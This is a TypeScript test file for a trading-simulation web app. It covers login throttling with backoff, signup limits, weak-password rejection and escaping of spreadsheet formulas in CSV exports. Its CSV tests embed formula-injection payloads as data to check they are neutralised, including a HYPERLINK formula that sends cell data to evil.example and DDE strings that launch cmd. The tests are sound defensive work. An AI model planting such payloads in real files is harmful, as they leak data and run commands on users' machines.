import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type FakeOpenAI, type FakeRequest, startFakeOpenAI } from '../test/fake-llm.js';
import { signup, startTestServer, type TestServer } from '../test/server.js';
import { openStream } from '../test/sse.js';
import { neutraliseCell, toCsv } from './csv.js';

const PASSWORD = 'correct horse battery';
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

describe('login throttling per (account, address) with backoff', () => {
  let t: TestServer;

  beforeAll(async () => {
    // X-Forwarded-For is believed (a trusted proxy), so one test can speak from several addresses.
    t = await startTestServer({ LOG_LEVEL: 'warn', TRUST_PROXY: 'true', LOGIN_MAX_PER_EMAIL: '3', LOGIN_BACKOFF_S: '1', LOGIN_MAX_PER_IP: '50' });
  });
  afterAll(async () => {
    await t?.close();
  });

  const login = (ip: string, email: string, password: string) => t.req('POST', '/api/auth/login', { body: { email, password }, headers: { 'x-forwarded-for': ip } });

  it('an attacker failing from one address cannot lock the owner out from another', async () => {
    const { user } = await signup(t, 'victim@example.com');
    for (let i = 0; i < 3; i++) expect((await login('203.0.113.66', user.email, 'not the password')).status).toBe(401);
    const attacker = await login('203.0.113.66', user.email, PASSWORD);
    expect(attacker.status).toBe(429);
    expect(attacker.body.error.code).toBe('rate_limited');
    // The owner, elsewhere, is not affected.
    const owner = await login('198.51.100.20', user.email, PASSWORD);
    expect(owner.status).toBe(200);
    expect(owner.body.access_token).toEqual(expect.any(String));
  });

  it('each further failure from the address doubles the wait, said in Retry-After', async () => {
    const { user } = await signup(t, 'backoff@example.com');
    const ip = '203.0.113.77';
    const waits: number[] = [];
    for (let i = 0; i < 4; i++) {
      // Once the previous wait is over, the next attempt is heard (and fails again).
      let res = await login(ip, user.email, 'still not the password');
      for (let tries = 0; res.status === 429 && tries < 5; tries++) {
        await sleep(Number(res.headers.get('retry-after')) * 1000 + 100);
        res = await login(ip, user.email, 'still not the password');
      }
      expect(res.status).toBe(401);
      const retryAfter = res.headers.get('retry-after');
      if (retryAfter !== null) waits.push(Number(retryAfter));
    }
    // Three free failures; then 1 s, 2 s, 4 s ... (LOGIN_BACKOFF_S=1).
    expect(waits).toEqual([1, 2]);
    // A success from that address clears its count.
    await sleep(2100);
    expect((await login(ip, user.email, PASSWORD)).status).toBe(200);
    expect((await login(ip, user.email, 'wrong again')).headers.get('retry-after')).toBeNull();
  }, 30_000);
});

describe('signup limits and password strength', () => {
  let t: TestServer;

  beforeAll(async () => {
    t = await startTestServer({ LOG_LEVEL: 'warn', TRUST_PROXY: 'true', SIGNUP_MAX_PER_IP: '3' });
  });
  afterAll(async () => {
    await t?.close();
  });

  const signupFrom = (ip: string, body: object) => t.req('POST', '/api/auth/signup', { body, headers: { 'x-forwarded-for': ip } });

  it('refuses weak passwords and the email itself with 400 naming password, storing nothing', async () => {
    const email = 'weak@example.com';
    const weak = ['password', ' '.repeat(8), '\0'.repeat(8), 'Password123', 'aaaaaaaaaaaa', 'qwertyuiop', email, 'WEAK@example.com'];
    for (const [i, password] of weak.entries()) {
      const res = await signupFrom(`192.0.2.${i + 1}`, { email, password });
      expect(res.status, JSON.stringify(password)).toBe(400);
      expect(res.body.error.code).toBe('validation_error');
      expect(res.body.error.message).toMatch(/^body\.password: /);
      expect(res.body.error.details).toEqual([expect.objectContaining({ path: 'body.password' })]);
    }
    // Nothing was stored: the address can still be taken, with a good password.
    expect((await signupFrom('192.0.2.99', { email, password: PASSWORD })).status).toBe(201);
  });

  it('rate-limits signups per address', async () => {
    const ip = '198.51.100.50';
    for (let i = 0; i < 3; i++) expect((await signupFrom(ip, { email: `burst${i}@example.com`, password: PASSWORD })).status).toBe(201);
    const limited = await signupFrom(ip, { email: 'burst3@example.com', password: PASSWORD });
    expect(limited.status).toBe(429);
    expect(limited.body.error.code).toBe('rate_limited');
    expect(Number(limited.headers.get('retry-after'))).toBeGreaterThan(0);
    // Another address is not affected; the refused account was not created.
    expect((await signupFrom('198.51.100.51', { email: 'burst3@example.com', password: PASSWORD })).status).toBe(201);
  });
});

describe('CSV exports neutralise formulas', () => {
  let t: TestServer;
  let fake: FakeOpenAI;
  let symbol = '';
  const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1'];

  beforeAll(async () => {
    t = await startTestServer({ LOG_LEVEL: 'warn' });
    fake = await startFakeOpenAI((req: FakeRequest) => {
      const turn = req.body.messages.filter((m) => m.role === 'assistant').length;
      if (turn > 0) return { kind: 'answer', text: HOSTILE[1]!, toolCalls: [{ name: 'finish_step', arguments: JSON.stringify({ summary: HOSTILE[3] }) }] };
      return { kind: 'answer', thinking: HOSTILE.join('\n'), text: HOSTILE[0]!, toolCalls: [{ name: 'buy', arguments: JSON.stringify({ symbol, quantity: 1, reason: HOSTILE[2] }) }] };
    });
  });
  afterAll(async () => {
    await fake?.close();
    await t?.close();
  });

  /** Every cell of `csv` a spreadsheet would run as a formula: it starts with = + - @ tab or CR and is not a plain number. */
  const formulaCells = (csv: string) =>
    (parse(csv, { relax_column_count: true }) as string[][]).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell));

  it('in run events, search and an admin’s export of another user’s run', async () => {
    const admin = await signup(t);
    const { token } = await signup(t);
    const symbols = (await t.req('GET', '/api/market/symbols', { token })).body.symbols.slice(0, 1).map((s: { symbol: string }) => s.symbol);
    symbol = symbols[0];
    const model = await t.req('POST', '/api/models', { token, body: { name: 'Hostile', agent: { kind: 'llm', params: { base_url: fake.baseUrl, model: 'm' } }, allowed_symbols: symbols } });
    const id = model.body.id as number;
    const stream = openStream(`${t.url}/api/trading/stream/${id}?token=${token}`);
    await stream.opened;
    const run = (await t.req('POST', `/api/trading/start/${id}`, { token, body: { start_date: '2026-09-01', end_date: '2026-09-04', pace_ms: 0 } })).body;
    await stream.waitFor((e) => e.type === 'complete');
    stream.close();

    const get = async (path: string, who = token) => (await fetch(`${t.url}${path}`, { headers: { authorization: `Bearer ${who}` } })).text();
    const exports = {
      run: await get(`/api/models/${id}/runs/${run.id}/events?format=csv`),
      search: await get(`/api/events/search?format=csv&model_id=${id}`),
      admin: await get(`/api/models/${id}/runs/${run.id}/events?format=csv`, admin.token),
    };
    for (const [name, csv] of Object.entries(exports)) {
      // The hostile text is there, shown as text.
      expect(csv, name).toContain(`'=HYPERLINK`);
      expect(csv, name).toContain(`'-2+3`);
      expect(formulaCells(csv), name).toEqual([]);
    }
    // The same events as JSON are untouched: only the CSV is for spreadsheets.
    const json = JSON.parse(await get(`/api/models/${id}/runs/${run.id}/events`));
    expect(JSON.stringify(json)).toContain('=HYPERLINK');
  });

  it('leaves numbers alone: a negative number stays a number, a text that looks like one does not', () => {
    expect(toCsv([[-5, '-5', 1.5, '=1', '@a', 'plain', null, true]])).toBe(`-5,'-5,1.5,'=1,'@a,plain,,1\n`);
    for (const c of ['=', '+', '-', '@', '\t', '\r']) expect(neutraliseCell(`${c}x`)).toBe(`'${c}x`);
    expect(neutraliseCell('x=1')).toBe('x=1');
  });
});
